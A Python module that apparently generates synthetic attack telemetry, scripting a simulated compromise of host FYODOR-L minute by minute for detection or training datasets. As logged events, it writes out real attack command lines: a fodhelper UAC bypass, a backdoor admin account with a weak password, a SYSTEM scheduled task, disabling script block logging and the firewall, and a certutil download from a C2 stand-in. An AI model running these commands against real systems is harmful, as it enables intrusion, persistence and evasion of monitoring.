"""FYODOR-L: from the shortcut file to SYSTEM, and what is done there."""

from __future__ import annotations

from typing import TYPE_CHECKING

from preview.generator import clock, draw, programs
from preview.generator.attack import payloads, sessions
from preview.generator.facts import Connection, Process, Request
from preview.generator.internet import C2_ADDRESS, C2_NAME
from preview.generator.organisation import HOSTS
from preview.generator.powershell import encode
from preview.generator.programs import POWERSHELL

if TYPE_CHECKING:
    from preview.generator.event import Stories
    from preview.generator.scene import Scene

HOST = "FYODOR-L"
_HKCU = "HKU\\S-1-12-1-2757390721-1183012637-396421155-1186\\Software\\"
_TEMP = "C:\\Windows\\Temp\\"


def tell(scene: Scene) -> None:
    """Take the host, minute by minute."""
    medium = _open_the_shortcut(scene)
    elevated = _bypass_uac(scene, medium, "10:07:05", sessions.ELEVATED)
    _make_an_account(scene, elevated)
    system = _make_a_task(scene, elevated)
    _blind_the_host(scene, elevated)
    _read_credentials(scene, system)
    _start_by_wmi(scene)
    _pack_documents(scene, system)
    _scan(scene, elevated)
    _fetch_tools(scene, elevated)
    _bypass_uac(scene, medium, "11:32:13", sessions.SECOND_BYPASS)
    _alert(scene)


def _open_the_shortcut(scene: Scene) -> Process:
    owner = HOSTS[HOST].owner
    services = scene.windows.running(HOST, programs.SERVICES, programs.SERVICES)
    launcher = scene.windows.running(
        HOST, programs.SVCHOST, programs.SVCHOST + " -k DcomLaunch -p", services
    )
    user = owner.windows_user if owner else programs.SYSTEM
    broker = scene.windows.start(
        launcher,
        clock.at("10:01:20.144"),
        programs.BROWSER_BROKER,
        programs.BROWSER_BROKER + " -Embedding",
        user=user,
        integrity="Medium",
    )
    shortcut = f"{owner.profile if owner else ''}\\Downloads\\BRUCE BIRTHDAY HAPPY HOUR PICS"
    scene.windows.file(
        broker, clock.at("10:01:33.406"), f"{shortcut}.lnk.q3dl7gx.partial", ("lure_file",)
    )
    scene.windows.download_mark(
        broker, clock.at("10:01:38.030"), f"{shortcut} (1).lnk", ("lure_file",)
    )
    medium = _powershell(
        scene,
        broker,
        "10:01:41.288",
        payloads.FIRST_LINE,
        sessions.MEDIUM,
        ("encoded_powershell",),
    )
    scene.windows.script_block(
        medium,
        clock.at("10:01:42.617"),
        payloads.FIRST,
        ("encoded_powershell", "script_block_logging_off", "amsi_bypass", "download_cradle"),
        suspicious=True,
    )
    for time, image, line in (
        ("10:02:50.310", programs.WHOAMI, "whoami /all"),
        ("10:03:24.872", programs.IPCONFIG, "ipconfig /all"),
        ("10:05:01.508", programs.NET, "net localgroup administrators"),
    ):
        scene.windows.start(
            medium, clock.at(time), image, f'"{image}" {line.partition(" ")[2]}', lifetime=0.4
        )
    return medium


def _powershell(
    scene: Scene,
    parent: Process,
    time: str,
    line: str,
    session: sessions.Session,
    stories: Stories,
    integrity: str = "",
) -> Process:
    process = scene.windows.start(
        parent,
        clock.at(time),
        POWERSHELL,
        line,
        integrity=integrity or None,
        stamp=session.stamp,
        stories=stories,
    )
    sessions.call_home(scene, session, process)
    return process


def _bypass_uac(scene: Scene, medium: Process, time: str, session: sessions.Session) -> Process:
    start = clock.at(time)
    value = encode(payloads.ELEVATED)
    command = _HKCU + "Classes\\ms-settings\\shell\\open\\command\\"
    for key, details in (
        (_HKCU + "Microsoft\\Windows\\Update", value),
        (command + "DelegateExecute", "(Empty)"),
        (command + "(Default)", payloads.FROM_REGISTRY),
    ):
        scene.windows.registry(
            medium, start - 1.4, (key, details), ("uac_bypass", "registry_payload")
        )
    helper = scene.windows.start(
        medium,
        start + 0.214,
        programs.FODHELPER,
        f'"{programs.FODHELPER}"',
        integrity="High",
        lifetime=9,
        stories=("uac_bypass",),
    )
    outer = scene.windows.start(
        helper, start + 0.561, POWERSHELL, payloads.FROM_REGISTRY, stories=("uac_bypass",)
    )
    inner = scene.windows.start(
        outer,
        start + 1.377,
        POWERSHELL,
        payloads.ELEVATED_LINE,
        stamp=session.stamp,
        stories=("uac_bypass", "encoded_powershell"),
    )
    scene.windows.script_block(
        inner,
        start + 1.902,
        payloads.ELEVATED,
        ("encoded_powershell", "download_cradle"),
        suspicious=True,
    )
    sessions.call_home(scene, session, inner)
    return inner


def _make_an_account(scene: Scene, elevated: Process) -> None:
    stories = ("new_account",)
    add, join = "user /add svcvnc Password123!", "localgroup administrators svcvnc /add"
    for time, line in (("10:08:17.335", add), ("10:08:29.020", join)):
        net = scene.windows.start(
            elevated,
            clock.at(time),
            programs.NET,
            f'"{programs.NET}" {line}',
            lifetime=0.5,
            stories=stories,
        )
        scene.windows.start(
            net,
            clock.at(time) + 0.06,
            programs.NET1,
            f"{programs.NET1} {line}",
            lifetime=0.4,
            stories=stories,
        )
    scene.windows.new_account(elevated, clock.at("10:08:17.502"), "svcvnc", stories)
    scene.windows.join_group(elevated, clock.at("10:08:17.511"), "svcvnc", "Users", stories)
    scene.windows.join_group(
        elevated, clock.at("10:08:29.190"), "svcvnc", "Administrators", stories
    )


def _make_a_task(scene: Scene, elevated: Process) -> Process:
    stories = ("scheduled_task",)
    scene.windows.registry(
        elevated,
        clock.at("10:09:43.118"),
        ("HKLM\\Software\\Microsoft\\Network\\debug", encode(payloads.PERSISTENT)),
        ("scheduled_task", "registry_payload"),
    )
    line = payloads.PERSISTENT_LINE.replace('"', '\\"')
    scene.windows.start(
        elevated,
        clock.at("10:09:44.450"),
        programs.SCHTASKS,
        f'"{programs.SCHTASKS}" /Create /F /RU system /SC DAILY /ST 10:11 /TN Updater /TR "{line}"',
        lifetime=0.7,
        stories=stories,
    )
    scene.windows.new_task(
        elevated, clock.at("10:09:44.930"), "Updater", payloads.PERSISTENT_LINE, stories
    )
    services = scene.windows.running(HOST, programs.SERVICES, programs.SERVICES)
    schedule = scene.windows.running(
        HOST, programs.SVCHOST, programs.SVCHOST + " -k netsvcs -p -s Schedule", services
    )
    system = _powershell(
        scene, schedule, "10:11:00.205", payloads.PERSISTENT_LINE, sessions.TASK, stories
    )
    scene.windows.script_block(
        system,
        clock.at("10:11:01.420"),
        payloads.PERSISTENT,
        ("scheduled_task", "script_block_logging_off", "amsi_bypass", "download_cradle"),
        suspicious=True,
    )
    return system


def _blind_the_host(scene: Scene, elevated: Process) -> None:
    policy = "SOFTWARE\\Policies\\Microsoft\\Windows\\PowerShell\\ScriptBlockLogging"
    stories = ("script_block_logging_off",)
    time = clock.at("10:12:31.754")
    reg = scene.windows.start(
        elevated,
        time,
        programs.REG,
        f'"{programs.REG}" add HKLM\\{policy} /v EnableScriptBlockLogging /t REG_DWORD /d 0 /f',
        lifetime=0.2,
        stories=stories,
    )
    scene.windows.registry(
        reg,
        time + 0.08,
        (f"HKLM\\{policy}\\EnableScriptBlockLogging", "DWORD (0x00000000)"),
        stories,
    )
    scene.windows.script_block(
        elevated, clock.at("10:12:02.060"), payloads.AMSI_FAILS, ("amsi_bypass",), suspicious=True
    )
    scene.windows.start(
        elevated,
        clock.at("10:46:29.617"),
        programs.NETSH,
        f'"{programs.NETSH}" advfirewall set allprofiles state off',
        lifetime=0.9,
        stories=("firewall_off",),
    )
    firewall = scene.windows.running(
        HOST, programs.SVCHOST, programs.SVCHOST + " -k LocalServiceNoNetwork -p"
    )
    policies = "HKLM\\System\\CurrentControlSet\\Services\\SharedAccess\\Parameters\\FirewallPolicy"
    for profile in ("DomainProfile", "StandardProfile", "PublicProfile"):
        scene.windows.registry(
            firewall,
            clock.at("10:46:29.980"),
            (f"{policies}\\{profile}\\EnableFirewall", "DWORD (0x00000000)"),
            ("firewall_off",),
        )


def _read_credentials(scene: Scene, system: Process) -> None:
    lsass = scene.windows.running(HOST, programs.LSASS, programs.LSASS)
    for time in ("10:14:40.128", "10:14:40.391"):
        scene.windows.access(
            system,
            lsass,
            clock.at(time),
            ("0x1010", "UNKNOWN(00000259B2C41F85)"),
            ("lsass_access",),
        )
    scene.windows.script_block(
        system, clock.at("10:14:39.040"), payloads.CREDENTIALS, ("lsass_access",), suspicious=True
    )


def _start_by_wmi(scene: Scene) -> None:
    provider = scene.windows.running(
        HOST, programs.WMIPRVSE, programs.WMIPRVSE + " -secured -Embedding"
    )
    shell = _powershell(
        scene,
        provider,
        "10:15:27.730",
        payloads.WMI_LINE,
        sessions.WMI,
        ("wmi_shell", "encoded_powershell"),
    )
    host = scene.windows.start(
        shell,
        clock.at("10:16:40.300"),
        programs.NOTEPAD,
        f'"{programs.NOTEPAD}"',
        stories=("remote_thread",),
    )
    scene.windows.thread(
        shell, host, clock.at("10:16:41.060"), ("0x000001DA8C3F0000", "", ""), ("remote_thread",)
    )


def _pack_documents(scene: Scene, system: Process) -> None:
    time = clock.at("10:36:18.466")
    tar = scene.windows.start(
        system,
        time,
        programs.TAR,
        f'"{programs.TAR}" -cvf {_TEMP}archive.tar C:\\Users\\FyodorMalteskesko\\Documents',
        lifetime=21.4,
        stories=("archive",),
    )
    scene.windows.file(tar, time + 0.12, _TEMP + "archive.tar", ("archive", "rare_file"))


def _scan(scene: Scene, elevated: Process) -> None:
    rng = draw.stream("attack scan")
    scene.windows.file(
        elevated, clock.at("10:42:21.907"), programs.HDOOR, ("port_scan", "rare_file")
    )
    start = clock.at("10:43:10.482")
    scan = scene.windows.start(
        elevated,
        start,
        programs.HDOOR,
        f'"{programs.HDOOR}" -hbs 192.168.9.1-192.168.9.50 /b /m /n',
        lifetime=88,
        stories=("port_scan", "new_hash"),
    )
    for last in range(1, 51):
        for number, port in enumerate((22, 80, 135, 445, 3389, 8080)):
            scene.network.connect(
                Connection(
                    time=start + 1 + last * 1.6 + number * 0.2 + rng.uniform(0, 0.1),
                    source=elevated.host.inner,
                    source_port=rng.randrange(49152, 65536),
                    destination=f"192.168.9.{last}",
                    destination_port=port,
                    sent=66,
                    received=rng.choice((0, 54)),
                    duration=0.004,
                    process=scan,
                ),
                ("port_scan",),
            )


def _fetch_tools(scene: Scene, elevated: Process) -> None:
    stories = ("tool_download", "download_cradle")
    scene.windows.script_block(
        elevated, clock.at("10:47:05.377"), payloads.TOOLS, stories, suspicious=True
    )
    _fetch(scene, elevated, "10:47:06.041", "/images/logos.png", 5_780_000, stories)
    scene.windows.file(elevated, clock.at("10:48:58.713"), _TEMP + "logos.png", ("tool_download",))
    time = clock.at("10:51:12.290")
    certutil = scene.windows.start(
        elevated,
        time,
        programs.CERTUTIL,
        f'"{programs.CERTUTIL}" -urlcache -split -f http://{C2_ADDRESS}:3333/images/lsof.png '
        f"{_TEMP}unziped.zip",
        lifetime=6,
        stories=("system_tool_network",),
    )
    _fetch(scene, certutil, "10:51:12.810", "/images/lsof.png", 412_300, ("system_tool_network",))
    scene.windows.file(
        elevated, clock.at("10:53:40.008"), programs.IEXEPLORER, ("rare_file", "look_alike_name")
    )


def _fetch(
    scene: Scene, process: Process, time: str, path: str, size: int, stories: Stories
) -> None:
    agent = "Microsoft-CryptoAPI/10.0" if process.image == programs.CERTUTIL else ""
    scene.network.connect(
        Connection(
            time=clock.at(time),
            source=process.host.address,
            source_port=50504 if size > 1_000_000 else 50611,
            destination=C2_ADDRESS,
            destination_port=3333,
            sent=180,
            received=size,
            duration=112.0 if size > 1_000_000 else 4.2,
            name=C2_NAME,
            process=process,
            request=Request("GET", path, f"{C2_ADDRESS}:3333", agent, content_type="image/png"),
        ),
        stories,
    )


def _alert(scene: Scene) -> None:
    host = HOSTS[HOST]
    stories = ("malware_alert",)
    scene.protection.risk(
        host, clock.at("10:42:22.600"), "Hacktool", programs.HDOOR, "Left alone", stories
    )
    scene.protection.intrusion(
        host,
        clock.at("10:02:10.000"),
        "[SID: 30011] Attack: PowerShell Empire Request",
        C2_ADDRESS,
        "C:/WINDOWS/SYSTEM32/WINDOWSPOWERSHELL/V1.0/POWERSHELL.EXE",
        stories,
    )


def session(scene: Scene, wanted: sessions.Session) -> Process:
    """Return the process of a session, once it was told."""
    return next(
        process
        for process in scene.windows.started(HOST, POWERSHELL, "High")
        if process.guid.split("-")[1] == wanted.name
    )
